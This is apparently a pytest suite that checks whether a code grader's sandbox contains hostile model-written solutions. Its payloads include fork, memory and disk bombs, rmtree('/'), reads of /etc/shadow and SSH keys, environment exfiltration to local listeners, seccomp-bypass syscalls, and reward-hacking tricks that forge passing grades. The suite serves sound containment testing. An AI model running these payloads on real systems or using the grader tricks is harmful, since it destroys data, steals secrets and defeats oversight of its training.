"""Adversarial payloads against the code grader's sandbox (rlctl_rewards.sandbox + rlctl_rewards.code).

Each payload is run as the "solution" of a task whose test is ``assert answer() == 42``.
After each one: no canary byte in anything that came back, no host file written,
no jailed process left on the host, no connection reached the host listeners, the
outcome is in the payload's expected set, and the grader still passes a valid
submission. ``ESCAPED:`` in the output means a payload detected its own success.
A table payload -> outcome is printed at the end of the session.

Network payloads aim only at listeners this test owns on 127.0.0.1 (RELIABILITY.md C.3): were the jail
ever broken, nothing here would send a packet off the machine. "No way out" is shown from inside the
jail instead: only ``lo``, no route, no resolver configuration, and the loopback canary receives nothing.
Without bubblewrap every test here skips, naming ``apt-get install -y bubblewrap`` (CI: a failure).
"""

from __future__ import annotations

import os
import secrets
import socket
import threading
import time
from pathlib import Path

import pytest

from rlctl_rewards.code import judge, parse_tests
from rlctl_rewards.sandbox import NOBODY, Limits, Sandbox
from tests.conftest import SUMMARY_TABLES

TOKEN = secrets.token_hex(12)
CANARY = f"CANARY{TOKEN}"
TABLE = SUMMARY_TABLES.setdefault("sandbox payload -> outcome", [])
SETUP, TESTS = parse_tests("assert answer() == 42")
VALID = "def answer():\n    return 6 * 7\n"


class Listener:
    """TCP + UDP listeners on 127.0.0.1 that record anything arriving."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.tcp.settimeout(0.2)
        self.udp.settimeout(0.2)
        self.hits: list[str] = []
        self._stop = False
        self._thread = threading.Thread(target=self._loop, daemon=True)
        self._thread.start()

    def _loop(self) -> None:
        while not self._stop:
            try:
                conn, addr = self.tcp.accept()
                self.hits.append(f"tcp from {addr}: {conn.recv(4096)[:100]!r}")
                conn.close()
            except OSError:
                pass
            try:
                data, addr = self.udp.recvfrom(4096)
                self.hits.append(f"udp from {addr}: {data[:100]!r}")
            except OSError:
                pass

    def close(self) -> None:
        self._stop = True
        self._thread.join(2)
        self.tcp.close()
        self.udp.close()


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory, _sandbox_problem):
    """Canaries planted on the host: an env var, a fake home (~/.ssh), a registry DB, /tmp and /dev/shm files."""
    if _sandbox_problem is not None:
        pytest.skip(_sandbox_problem)
    root = tmp_path_factory.mktemp("host")
    home = root / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN KEY----- {CANARY}\n")
    (root / "rlctl_home").mkdir()
    (root / "rlctl_home" / "registry.db").write_bytes(f"SQLite format 3\0 {CANARY}".encode())
    (root / "tests_hidden.py").write_text(f"assert answer() == 42  # {CANARY}\n")
    shared = [Path(f"/tmp/rlctl-canary-{TOKEN}"), Path(f"/dev/shm/rlctl-canary-{TOKEN}")]
    for path in shared:
        path.write_text(CANARY)
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix_path = root / "host.sock"
    unix.bind(str(unix_path))
    unix.listen(1)
    old_env = os.environ.get("RLCTL_CANARY_SECRET")
    os.environ["RLCTL_CANARY_SECRET"] = CANARY
    listener = Listener()
    sandbox = Sandbox(Limits(wall_s=3.0, cpu_s=3, memory_mb=256, pids=16, output_bytes=64 << 10))
    sandbox.check()
    values = {
        "home": str(home), "registry": str(root / "rlctl_home" / "registry.db"), "root": str(root),
        "tcp_port": listener.tcp.getsockname()[1], "udp_port": listener.udp.getsockname()[1],
        "unix": str(unix_path), "grader_pid": os.getpid(), "token": TOKEN, "out": str(root / "out"),
    }
    (root / "out").mkdir()
    yield sandbox, listener, values
    listener.close()
    unix.close()
    for path in shared:
        path.unlink(missing_ok=True)
    if old_env is None:
        os.environ.pop("RLCTL_CANARY_SECRET", None)
    else:
        os.environ["RLCTL_CANARY_SECRET"] = old_env


TIMEOUT, FAILED, PASSED = "timeout", "failed", "passed"
# Kernel-surface payloads call syscalls by number (x86_64, aarch64): ``denied`` prints ESCAPED unless the
# call fails with the errno the seccomp filter returns (EPERM unless told).
_SYSCALL = ("import ctypes, os, platform\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            "arm = platform.machine() in ('aarch64', 'arm64')\n"
            "def denied(what, x86, arm64, *args, errno=1):\n"
            "    ctypes.set_errno(0)\n    r = libc.syscall(arm64 if arm else x86, *args)\n"
            "    if r >= 0 or ctypes.get_errno() != errno: print('ESCAPED:' + what, r, ctypes.get_errno())\n")
_ANSWER = "def answer(): return 42"
NOT_PASSED = {FAILED, TIMEOUT}
ANY = {FAILED, TIMEOUT, PASSED}

# (id, code, allowed statuses). Format fields: see ``world``. A payload that detects its own
# success prints ESCAPED:<what> to stderr (its prints land there).
PAYLOADS: list[tuple[str, str, set[str]]] = [
    # -- C.1 resource exhaustion
    ("busy-loop", "while True: pass", {TIMEOUT}),
    ("sleep-forever", "import time; time.sleep(10**9)", {TIMEOUT}),
    ("ignore-signals", "import signal\nfor s in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT, signal.SIGHUP):\n"
     "    signal.signal(s, signal.SIG_IGN)\nsignal.alarm(0)\nwhile True: pass", {TIMEOUT}),
    ("fork-bomb", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass", {TIMEOUT, FAILED}),
    ("shell-fork-bomb", "import os; os.system(\"bash -c ':(){{ :|:& }};:; sleep 1'\")\ndef answer(): return 42", ANY),
    ("thread-bomb", "import threading, time\nfor _ in range(100000):\n"
     "    threading.Thread(target=time.sleep, args=(100,), daemon=True).start()", NOT_PASSED),
    ("memory-bomb", "x = bytearray(10**11)", {FAILED}),
    ("memory-incremental", "l = []\nwhile True: l.append(b'x' * 10**7)", {FAILED, TIMEOUT}),
    ("disk-bomb-cwd", "f = open('big', 'wb')\nwhile True: f.write(b'x' * 2**20)", {FAILED, TIMEOUT}),
    ("disk-bomb-tmp", "import os\nfd = os.open('/tmp/big', os.O_CREAT | os.O_WRONLY)\n"
     "os.posix_fallocate(fd, 0, 50 * 2**30)", {FAILED}),
    ("output-flood", "print('A' * 10**9)", {FAILED, TIMEOUT}),
    ("output-flood-binary", "import os\nwhile True:\n    os.write(1, b'\\0\\x1b[2J\\xff' * 4096)\n"
     "    os.write(2, b'\\0\\x1b[2J' * 4096)", {FAILED, TIMEOUT}),
    ("fd-exhaustion", "fs = [open('/dev/null') for _ in range(10**6)]", {FAILED}),
    ("catastrophic-regex", "import re; re.match('(a+)+$', 'a' * 64 + 'b')", {TIMEOUT}),
    ("huge-int", "x = 10**(10**10)", {TIMEOUT, FAILED}),
    ("recursion-segfault", "import sys; sys.setrecursionlimit(10**9)\ndef f(): return f()\nf()", {FAILED, TIMEOUT}),
    ("daemon-double-fork", "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
     "        time.sleep(2); open('{out}/late-' + '{token}', 'w').write('ESCAPED:daemon'); os._exit(0)\n"
     "    os._exit(0)\ndef answer(): return 42", {PASSED}),
    ("time-bomb-nohup", "import subprocess\nsubprocess.Popen(['nohup', 'sh', '-c', 'sleep 2; echo ESCAPED > "
     "{out}/bomb-{token}'], start_new_session=True)\ndef answer(): return 42", {PASSED}),
    # -- C.2 filesystem
    ("rmtree-root", "import shutil; shutil.rmtree('/', ignore_errors=True)\ndef answer(): return 42", {PASSED, TIMEOUT}),
    ("overwrite-python", "open('/usr/bin/python3', 'wb').write(b'x')", {FAILED}),
    ("write-etc", "open('/etc/evil', 'w').write('x')", {FAILED}),
    ("write-host-path", "import os\nfor p in ('{out}/pwn-{token}', '/tmp/pwn-{token}', '/root/pwn-{token}',\n"
     "          '/work/pwn-{token}', '{root}/pwn-{token}'):\n"
     "    try:\n        open(p, 'w').write('x')\n    except OSError: pass\n"
     "def answer(): return 42", {PASSED}),
    ("read-shadow", "print(open('/etc/shadow').read())", {FAILED}),
    ("read-ssh-key", "print(open('{home}/.ssh/id_rsa').read())", {FAILED}),
    ("read-root-ssh", "import os; print(os.listdir(os.path.expanduser('~/.ssh')) + os.listdir('/root/.ssh'))",
     {FAILED}),
    ("read-registry-db", "print(open('{registry}', 'rb').read())", {FAILED}),
    ("read-host-tmp", "print(open('/tmp/rlctl-canary-{token}').read())", {FAILED}),
    ("read-host-shm", "print(open('/dev/shm/rlctl-canary-{token}').read())", {FAILED}),
    ("find-hidden-tests", "import glob\nfor p in glob.glob('/**/*.py', recursive=True) + glob.glob('/**/*.db', "
     "recursive=True):\n    d = open(p, 'rb').read()\n    if b'CANARY' in d: print('ESCAPED', d)\n"
     "def answer(): return 42", {PASSED, TIMEOUT}),
    ("symlink-escape", "import os\nos.symlink('/etc/passwd', 'out.txt'); os.symlink('{home}/.ssh/id_rsa', 'k')\n"
     "print(open('k').read())", {FAILED}),
    ("path-traversal", "print(open('../../../../{registry}').read())", {FAILED}),
    ("persist-between-runs", "import os\nopen('/tmp/persist-{token}', 'w').write('x')\n"
     "def answer(): return 42 if not os.path.exists('/tmp/persist-seen') else 0", {PASSED}),
    ("dev-access", "import os\nfor d in ('/dev/mem', '/dev/kmsg', '/dev/sda', '/dev/vda', '/dev/nvidia0', '/dev/port'):\n"
     "    try:\n        open(d, 'rb').read(16); print('ESCAPED:' + d)\n    except OSError: pass\n"
     "print(sorted(os.listdir('/dev')))\ndef answer(): return 42", {PASSED}),
    ("mount-tmpfs", "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
     "if libc.mount(b'none', b'/usr', b'tmpfs', 0, None) == 0: print('ESCAPED:mount')\n"
     "def answer(): return 42", {PASSED}),
    # -- C.3 network
    ("tcp-host-loopback", "import socket\ns = socket.create_connection(('127.0.0.1', {tcp_port}), timeout=1)\n"
     "s.sendall(b'ESCAPED ' + b'{token}')", {FAILED}),
    ("http-exfil", "import os, urllib.parse, urllib.request\nurllib.request.urlopen('http://127.0.0.1:{tcp_port}/?d='"
     " + urllib.parse.quote('ESCAPED' + repr(dict(os.environ))), timeout=1)", {FAILED}),
    # No payload aims at an address off this machine (RELIABILITY.md C.3): "no way out" is shown from inside.
    ("no-route-out", "routes = [l.split() for l in open('/proc/net/route').read().splitlines()[1:] if l.strip()]\n"
     "routes6 = [l.split() for l in open('/proc/net/ipv6_route').read().splitlines() if l.strip()]\n"
     "out = [r for r in routes if r[0] != 'lo'] + [r for r in routes6 if r[-1] != 'lo']\n"
     "if out: print('ESCAPED:route', out)\ndef answer(): return 42", {PASSED}),
    ("no-resolver", "import os\nfor p in ('/etc/resolv.conf', '/etc/hosts', '/etc/nsswitch.conf', '/run/systemd/resolve'):\n"
     "    if os.path.exists(p): print('ESCAPED:resolver', p, open(p).read()[:200] if os.path.isfile(p) else '')\n"
     "def answer(): return 42", {PASSED}),
    ("host-services-loopback", "import socket\nfor port in (5432, 6379, 8265, {tcp_port}):\n    try:\n"
     "        socket.create_connection(('127.0.0.1', port), timeout=1).sendall(b'ESCAPED ' + b'{token}')\n"
     "        print('ESCAPED:connected', port)\n    except OSError: pass\ndef answer(): return 42", {PASSED}),
    ("udp-exfil", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
     "s.sendto(b'ESCAPED', ('127.0.0.1', {udp_port}))\ndef answer(): return 42", {PASSED}),
    ("raw-icmp", "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)", {FAILED}),
    ("unix-socket", "import socket\ns = socket.socket(socket.AF_UNIX); s.connect('{unix}')", {FAILED}),
    ("list-interfaces", "import socket\ntry: names = [n for _, n in socket.if_nameindex()]\n"
     "except OSError: names = [l.split(':')[0].strip() for l in open('/proc/net/dev').readlines()[2:]]  # no netlink\n"
     "if set(names) - {{'lo'}}: print('ESCAPED:interfaces', names)\ndef answer(): return 42", {PASSED}),
    # -- C.4 processes, privileges, kernel surface
    ("dump-environ", "import os; print(dict(os.environ)); print(open('/proc/self/environ').read())\n"
     "def answer(): return 42", {PASSED}),
    ("proc-1-environ", "print(open('/proc/1/environ', 'rb').read()); print(open('/proc/1/cmdline', 'rb').read())\n"
     "def answer(): return 42", {PASSED, FAILED}),
    ("proc-all-environ", "import glob\nfor p in glob.glob('/proc/[0-9]*/environ'):\n"
     "    try: print(p, open(p, 'rb').read())\n    except OSError: pass\n"
     "print(open('/proc/{grader_pid}/environ', 'rb').read())", {FAILED}),
    ("kill-parent", "import os, signal; os.kill(os.getppid(), signal.SIGKILL)\ndef answer(): return 42", ANY),
    ("kill-grader-pid", "import os; os.kill({grader_pid}, 9)", {FAILED}),
    ("kill-all", "import os; os.kill(-1, 9)", {FAILED}),
    ("killpg", "import os; os.killpg(0, 9)", {FAILED}),
    ("ptrace-grader", "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
     "if libc.ptrace(16, {grader_pid}, None, None) == 0: print('ESCAPED:ptrace')\n"
     "def answer(): return 42", {PASSED}),
    ("setuid-su", "import os, subprocess\nfor cmd in (['su', '-c', 'id'], ['sudo', 'id'], ['mount']):\n"
     "    try:\n        r = subprocess.run(cmd, capture_output=True, timeout=2)\n"
     "        if b'uid=0' in r.stdout: print('ESCAPED:root')\n    except Exception: pass\n"
     "if os.geteuid() == 0: print('ESCAPED:euid0')\ndef answer(): return 42", {PASSED}),
    ("capabilities", "caps = [l for l in open('/proc/self/status') if l.startswith(('CapEff', 'CapPrm'))]\n"
     "if any(l.split()[1].strip('0') for l in caps): print('ESCAPED:caps', caps)\ndef answer(): return 42", {PASSED}),
    ("unshare-userns", "import subprocess\nr = subprocess.run(['unshare', '-Ur', 'id'], capture_output=True)\n"
     "if r.returncode == 0: print('ESCAPED:userns', r.stdout)\ndef answer(): return 42", {PASSED}),
    # -- C.4 kernel surface: the seccomp filter answers EPERM (clone3: ENOSYS), whatever else would have
    # stopped the call. Each payload checks the errno, so a call refused for another reason still shows.
    ("seccomp-ptrace", _SYSCALL + "denied('ptrace-traceme', 101, 117, 0, 0, None, None)\n"
     "denied('process_vm_readv', 310, 270, os.getppid(), None, 0, None, 0, 0)\n" + _ANSWER, {PASSED}),
    ("seccomp-mount-api", _SYSCALL + "denied('fsopen', 430, 430, b'tmpfs', 0)\n"
     "denied('open_tree', 428, 428, -100, b'/usr', 1)\ndenied('umount2', 166, 39, b'/proc', 2)\n"
     "denied('pivot_root', 155, 41, b'/tmp', b'/tmp')\ndenied('mount', 165, 40, b'none', b'/tmp', b'tmpfs', 0, None)\n"
     + _ANSWER, {PASSED}),
    ("seccomp-unshare", _SYSCALL + "for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000):\n"
     "    denied('unshare', 272, 97, flag)\ndenied('setns', 308, 268, 0, 0)\n" + _ANSWER, {PASSED}),
    ("seccomp-clone-namespace", _SYSCALL + "for flag in (0x10000000, 0x20000, 0x40000000):\n"
     "    r = libc.syscall(220 if arm else 56, flag | 17, None, None, None, None)\n"
     "    if r == 0: os._exit(0)\n"
     "    if r > 0 or ctypes.get_errno() != 1: print('ESCAPED:clone', hex(flag), r, ctypes.get_errno())\n"
     "denied('clone3', 435, 435, None, 0, errno=38)  # ENOSYS: libc falls back to clone\n" + _ANSWER, {PASSED}),
    ("seccomp-keyctl", _SYSCALL + "denied('add_key', 248, 217, b'user', b'k', b'v', 1, -3)\n"
     "denied('keyctl-join', 250, 219, 1, None)\ndenied('request_key', 249, 218, b'user', b'k', None, 0)\n"
     + _ANSWER, {PASSED}),
    ("seccomp-bpf", _SYSCALL + "for cmd in (0, 5, 18):\n    denied('bpf', 321, 280, cmd, None, 0)\n" + _ANSWER,
     {PASSED}),
    ("seccomp-perf-event-open", _SYSCALL + "attr = ctypes.create_string_buffer(128)\n"
     "denied('perf_event_open', 298, 241, attr, 0, -1, -1, 0)\n" + _ANSWER, {PASSED}),
    ("seccomp-userfaultfd", _SYSCALL + "for flags in (1, 0, 0o4000):\n"
     "    denied('userfaultfd', 323, 282, flags)\n"
     "if os.path.exists('/dev/userfaultfd'): print('ESCAPED:/dev/userfaultfd')\n" + _ANSWER, {PASSED}),
    ("seccomp-io-uring", _SYSCALL + "params = ctypes.create_string_buffer(120)\n"
     "denied('io_uring_setup', 425, 425, 4, params)\n" + _ANSWER, {PASSED}),
    ("seccomp-modules-kexec", _SYSCALL + "denied('init_module', 175, 105, None, 0, b'')\n"
     "denied('finit_module', 313, 273, 0, b'', 0)\ndenied('kexec_load', 246, 104, 0, 0, None, 0)\n"
     "denied('open_by_handle_at', 304, 265, -100, ctypes.create_string_buffer(64), 0)\n" + _ANSWER, {PASSED}),
    ("seccomp-raw-sockets", "import errno, socket\n"
     "for fam, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_DGRAM),\n"
     "                  (socket.AF_INET, socket.SOCK_RAW), (socket.AF_INET6, socket.SOCK_RAW | socket.SOCK_NONBLOCK),\n"
     "                  (socket.AF_INET, 10), (socket.AF_NETLINK, socket.SOCK_RAW), (socket.AF_NETLINK, socket.SOCK_DGRAM)):\n"
     "    try:\n        socket.socket(fam, kind).close(); print('ESCAPED:socket', fam, kind)\n"
     "    except OSError as err:\n"
     "        if err.errno != errno.EPERM: print('ESCAPED:socket', fam, kind, err)\n" + _ANSWER, {PASSED}),
    ("seccomp-foreign-abi-x32", "import ctypes, platform\nlibc = ctypes.CDLL(None, use_errno=True)\n"
     "if platform.machine() == 'x86_64':  # x32 getpid: the filter kills the process before it returns\n"
     "    r = libc.syscall(0x40000000 | 39); print('ESCAPED:x32 call returned', r, ctypes.get_errno())\n"
     "raise SystemExit(3)  # no second ABI to try elsewhere\n" + _ANSWER, {FAILED}),
    ("seccomp-foreign-abi-i386", "import ctypes, mmap, platform\n"
     "if platform.machine() == 'x86_64':  # i386 getpid via int 0x80: the filter kills the process\n"
     "    mem = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
     "    mem.write(b'\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3')  # mov eax, 20; int 0x80; ret\n"
     "    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(mem)))\n"
     "    print('ESCAPED:i386 call returned', call())\n"
     "raise SystemExit(3)\n" + _ANSWER, {FAILED}),
    ("ordinary-python-still-works", "import asyncio, json, os, socket, subprocess, tempfile, threading\n"
     "from concurrent.futures import ProcessPoolExecutor, ThreadPoolExecutor\n"
     "box = []\nts = [threading.Thread(target=box.append, args=(i,)) for i in range(4)]\n"
     "[t.start() for t in ts]; [t.join() for t in ts]\nassert sorted(box) == [0, 1, 2, 3], box\n"
     "with ThreadPoolExecutor(2) as ex: assert list(ex.map(abs, [-1, -2])) == [1, 2]\n"
     "with ProcessPoolExecutor(2) as ex: assert list(ex.map(abs, [-3, -4])) == [3, 4]\n"
     "assert subprocess.run(['python3', '-c', 'print(6 * 7)'], capture_output=True).stdout == b'42\\n'\n"
     "pid = os.fork()\nif pid == 0: os._exit(7)\nassert os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 7\n"
     "a, b = socket.socketpair(); a.sendall(b'x'); assert b.recv(1) == b'x'\n"
     "u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); u.close()\n"
     "assert asyncio.run(asyncio.sleep(0, 42)) == 42\n"
     "with tempfile.TemporaryDirectory() as d: open(os.path.join(d, 'f'), 'w').write(json.dumps([1]))\n"
     "def answer(): return 42", {PASSED}),
    # -- C.5 grader tampering
    ("sys-exit-0", "import sys; sys.exit(0)", {FAILED}),
    ("os-exit-0", "import os; os._exit(0)", {FAILED}),
    ("print-sentinel", "import json\nprint('ALL TESTS PASSED'); print(json.dumps({{'reward': 1.0}}))\n"
     "print(json.dumps({{'i': 0, 'ok': True, 'value': ['int', '42']}}))\ndef answer(): return 41", {FAILED}),
    ("forge-records-fd", "import json, os\nfor fd in range(3, 64):\n    try:\n"
     "        os.write(fd, (json.dumps({{'n': 'guess', 'i': 0, 'ok': True, 'value': ['int', '42']}}) + '\\n').encode())\n"
     "    except OSError: pass\ndef answer(): return 41", {FAILED}),
    ("duplicate-record", "import gc, json, os\nnonce = [o for o in gc.get_objects() if isinstance(o, dict) and 'nonce' in o]\n"
     "n = nonce[0]['nonce'] if nonce else ''\nfor fd in range(3, 16):\n    try: os.write(fd, (json.dumps({{'n': n, 'i': 0,"
     " 'ok': True, 'value': ['int', '42']}}) + '\\n').encode())\n    except OSError: pass\ndef answer(): return 41",
     {FAILED}),
    ("forge-from-main", "import json, os, sys\ng = vars(sys.modules['__main__'])\n"
     "n, fd = g.get('_nonce') or g['_job']['nonce'], g['_fd']\n"
     "os.write(fd, (json.dumps({{'n': n, 'i': 0, 'ok': True, 'value': ['int', '42']}}) + '\\n').encode())\n"
     "os._exit(0)", {FAILED}),
    ("steal-verdict-stream", "import os\nfor p in ('/proc/%d/fd/1' % os.getppid(), '/proc/1/fd/1', '/proc/%d/mem' % os.getppid(),\n"
     "          '/proc/%d/environ' % os.getppid()):\n    try:\n        os.close(os.open(p, os.O_RDONLY))\n"
     "        print('ESCAPED:opened', p)\n    except OSError: pass\ndef answer(): return 42", {PASSED}),
    ("ptrace-harness", "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
     "if libc.ptrace(16, os.getppid(), None, None) == 0: print('ESCAPED:ptrace-harness')\n"
     "def answer(): return 42", {PASSED}),
    ("always-equal", "class A:\n    def __eq__(self, o): return True\n    __hash__ = object.__hash__\n"
     "def answer(): return A()", {FAILED}),
    ("int-subclass", "class I(int):\n    def __eq__(self, o): return True\ndef answer(): return I(41)", {FAILED}),
    ("patch-assert", "import builtins\nbuiltins.AssertionError = type('X', (Exception,), {{}})\n"
     "def answer(): return 41", {FAILED}),
    ("sitecustomize", "for n in ('conftest.py', 'sitecustomize.py', 'usercustomize.py', 'x.pth'):\n"
     "    open(n, 'w').write('import os; os._exit(0)')\ndef answer(): return 41", {FAILED}),
    ("disable-timers", "import signal, time\nsignal.alarm(0); time.time = lambda: 0.0; time.monotonic = lambda: 0.0\n"
     "while True: pass", {TIMEOUT}),
    ("nan-reward", "def answer(): return float('nan')", {FAILED}),
    ("huge-source", "# " + "x" * (1 << 20) + "\ndef answer(): return 42", {PASSED}),
    ("nul-in-source", "def answer(): return 42\0", {FAILED}),
]


def _host_files(values: dict) -> list[str]:
    roots = [Path("/tmp"), Path(values["out"]), Path(values["root"]), Path("/root"), Path("/work"), Path.cwd()]
    found = []
    for base in roots:
        try:
            found += [str(p) for p in base.iterdir() if TOKEN in p.name and "canary" not in p.name]
        except OSError:
            pass
    return found


def _parent(pid: int) -> int:
    stat = Path(f"/proc/{pid}/stat").read_text()
    return int(stat[stat.rindex(")") + 2:].split()[1])


def _sibling_workers() -> set[int]:
    """The other processes our parent started: the other pytest-xdist workers, whose own jails are not leftovers."""
    me, controller, siblings = os.getpid(), os.getppid(), set()
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            if _parent(int(stat.parent.name)) == controller and int(stat.parent.name) != me:
                siblings.add(int(stat.parent.name))
        except (OSError, ValueError):
            continue
    return siblings


def _under(pid: int, ancestors: set[int]) -> bool:
    try:
        while pid > 1:
            if pid in ancestors:
                return True
            pid = _parent(pid)
    except (OSError, ValueError):
        return True  # gone while we looked: not left on the host
    return False


def _jailed_processes() -> list[str]:
    """Host processes running as the jail's uid (nobody else uses it here), but for the jails other test
    workers are running right now (an escapee is re-parented to init, so it never passes as theirs)."""
    pids, siblings = [], _sibling_workers()
    for status in Path("/proc").glob("[0-9]*/status"):
        try:
            uid = next(line.split()[1] for line in status.read_text().splitlines() if line.startswith("Uid:"))
        except (OSError, StopIteration):
            continue
        if int(uid) == NOBODY and not _under(int(status.parent.name), siblings):
            state = next((line for line in status.read_text().splitlines() if line.startswith("State:")), "")
            pids.append(f"{status.parent.name} {state} {(status.parent / 'cmdline').read_bytes()[:80]!r}")
    return pids


def _leftover_cgroups() -> list[str]:
    """This process's jail cgroups still on the host. os.walk, not Path.rglob: the other xdist worker's jails are
    created and removed while the tree is walked, and rglob raised FileNotFoundError on one that vanished (CI)."""
    prefix, found = f"rlctl-sbx-{os.getpid()}-", []
    for top, dirs, _ in os.walk("/sys/fs/cgroup/pids", onerror=lambda err: None):
        found.extend(os.path.join(top, d) for d in dirs if d.startswith(prefix))
    return found


# A quick subset runs in the default suite; the whole catalogue (about 2.5 min) is marked slow (CI runs it).
QUICK = {"tcp-host-loopback", "dump-environ", "proc-all-environ", "write-host-path", "os-exit-0", "always-equal",
         "no-route-out", "no-resolver", "forge-from-main", "steal-verdict-stream", "seccomp-keyctl",
         "seccomp-raw-sockets", "seccomp-clone-namespace", "ordinary-python-still-works"}


@pytest.mark.parametrize(("name", "code", "allowed"), [
    pytest.param(*p, id=p[0], marks=() if p[0] in QUICK else pytest.mark.slow) for p in PAYLOADS])
def test_payload_is_contained(world, name: str, code: str, allowed: set[str]) -> None:
    sandbox, listener, values = world
    hits_before = len(listener.hits)
    verdict = judge(sandbox, code.format(**values), SETUP, TESTS)
    run = verdict.run
    seen = b"" if run is None else run.stdout + run.stderr
    seen += verdict.detail.encode()
    if name in ("daemon-double-fork", "time-bomb-nohup"):
        time.sleep(2.5)  # long enough for a surviving bomb to go off
    leaked = CANARY.encode() in seen
    escaped = b"ESCAPED" in seen
    files, procs, cgroups = _host_files(values), _jailed_processes(), _leftover_cgroups()
    net = listener.hits[hits_before:]
    after = judge(sandbox, VALID, SETUP, TESTS)
    persisted = judge(sandbox, "import os\ndef answer(): return 42 if not os.listdir('/tmp') else 0", SETUP, TESTS)
    contained = (verdict.status in allowed and not leaked and not escaped and not files and not procs
                 and not cgroups and not net and after.status == PASSED and persisted.status == PASSED)
    TABLE.append(f"{name:<22} {verdict.status:<8} {verdict.passed}/{verdict.total} "
                 f"{(run.wall_s if run else 0):5.2f}s oom={int(bool(run and run.oom_killed))} "
                 f"pids_cap={int(bool(run and run.pids_limited))} swept={run.leftovers_killed if run else 0} "
                 f"{'contained' if contained else 'NOT CONTAINED'}  {verdict.detail[:60]!r}")
    assert verdict.status in allowed, (verdict.status, verdict.detail)
    assert not leaked, "canary bytes came back"
    assert not escaped, seen[-500:]
    assert not files, files
    assert not procs, f"jailed processes left on the host: {procs}"
    assert not cgroups, cgroups
    assert not net, net
    assert after.status == PASSED, after.detail
    assert persisted.status == PASSED, "something persisted into the next run's /tmp"
    assert os.environ["RLCTL_CANARY_SECRET"] == CANARY
    assert Path(values["home"], ".ssh", "id_rsa").read_text().startswith("-----BEGIN KEY")  # host files intact
    assert os.access("/usr/bin/python3", os.X_OK)


def test_suite_has_forty_payloads() -> None:
    assert len(PAYLOADS) >= 40


def test_dropping_the_network_namespace_lets_the_payload_escape(world) -> None:
    """The network check has teeth: without --unshare-net the same payload reaches the host listener."""
    _, listener, values = world
    weak = Sandbox(Limits(wall_s=3.0, cpu_s=3, memory_mb=256, pids=16), drop_flags=("--unshare-net",))
    code = dict(PAYLOADS_BY_NAME)["tcp-host-loopback"].format(**values)
    before = len(listener.hits)
    verdict = judge(weak, code, SETUP, TESTS)
    deadline = time.monotonic() + 3
    while len(listener.hits) == before and time.monotonic() < deadline:
        time.sleep(0.05)
    assert listener.hits[before:], f"expected the payload to escape without --unshare-net ({verdict.detail})"
    TABLE.append(f"{'[no --unshare-net]':<22} tcp-host-loopback reached the host: {listener.hits[before][:60]}")
    if Path("/proc/net/route").read_text().count("\n") > 1:  # the host has a route out: the jail must not see it
        routes = judge(weak, dict(PAYLOADS_BY_NAME)["no-route-out"], SETUP, TESTS)
        assert routes.run is not None and b"ESCAPED:route" in routes.run.stderr, routes.detail
        TABLE.append(f"{'[no --unshare-net]':<22} no-route-out saw the host's routes")


def test_dropping_the_seccomp_filter_lets_the_payloads_escape(world) -> None:
    """The kernel-surface payloads have teeth: without the filter some of their calls succeed in the same jail."""
    _, _, values = world
    weak = Sandbox(Limits(wall_s=3.0, cpu_s=3, memory_mb=256, pids=16), drop_flags=("--seccomp",))
    escaped = []
    for name in ("seccomp-keyctl", "seccomp-userfaultfd", "seccomp-raw-sockets", "seccomp-ptrace",
                 "seccomp-foreign-abi-x32", "seccomp-foreign-abi-i386"):
        verdict = judge(weak, dict(PAYLOADS_BY_NAME)[name].format(**values), SETUP, TESTS)
        seen = b"" if verdict.run is None else verdict.run.stderr
        if b"ESCAPED" in seen:
            escaped.append(name)
            TABLE.append(f"{'[no --seccomp]':<22} {name} escaped: {seen.split(b'ESCAPED')[1][:50]!r}")
    assert escaped, "expected some kernel-surface payload to get through without the seccomp filter"


PAYLOADS_BY_NAME = [(name, code) for name, code, _ in PAYLOADS]
